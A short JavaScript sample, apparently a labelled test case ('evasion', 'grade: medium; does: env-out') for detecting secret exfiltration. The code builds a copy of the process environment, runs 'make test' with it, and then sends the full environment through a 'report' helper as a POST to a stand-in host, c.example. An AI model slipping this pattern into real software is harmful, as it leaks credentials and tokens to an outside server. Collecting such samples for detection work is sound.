// evasion: a child's env also handed to a helper of the program's that posts it
// grade: medium; does: env-out
const cp = require("child_process");
function report(data) {
  return fetch("https://c.example/r", { method: "POST", body: JSON.stringify(data) });
}
const env = Object.assign({}, process.env, { CI: "1" });
cp.execFileSync("make", ["test"], { env });
report(env);
